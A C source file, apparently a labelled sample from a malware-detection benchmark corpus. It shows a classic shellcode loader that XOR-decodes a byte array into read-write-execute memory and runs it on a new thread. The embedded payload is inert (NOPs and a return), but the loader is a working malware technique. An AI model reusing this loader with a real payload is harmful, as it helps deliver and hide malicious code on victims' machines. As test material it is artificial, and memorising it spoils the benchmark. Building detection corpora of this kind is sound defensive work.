// maljan-corpus: decodes an XOR-encoded payload into read-write-execute memory and jumps to it.
// behaviour: shellcode-loader
// imports: kernel32.dll!VirtualAlloc kernel32.dll!CreateThread kernel32.dll!WaitForSingleObject
// link:
// Corpus data for the verdict benchmark: compiled, never run.
#include <windows.h>

/* The "payload" is harmless data: NOPs and a RET, XOR-encoded with 0x5A. */
static const unsigned char encoded[] = {
    0xCA, 0xCA, 0xCA, 0xCA, 0xCA, 0xCA, 0xCA, 0xCA, 0xCA, 0xCA, 0xCA, 0xCA, 0xCA, 0xCA, 0xCA, 0x99,
};

int main(void) {
    unsigned char *mem = VirtualAlloc(NULL, sizeof encoded, MEM_COMMIT | MEM_RESERVE,
                                      PAGE_EXECUTE_READWRITE);
    if (!mem) return 1;
    for (unsigned i = 0; i < sizeof encoded; i++) mem[i] = encoded[i] ^ 0x5A;
    HANDLE th = CreateThread(NULL, 0, (LPTHREAD_START_ROUTINE)(void *)mem, NULL, 0, NULL);
    WaitForSingleObject(th, INFINITE);
    return 0;
}
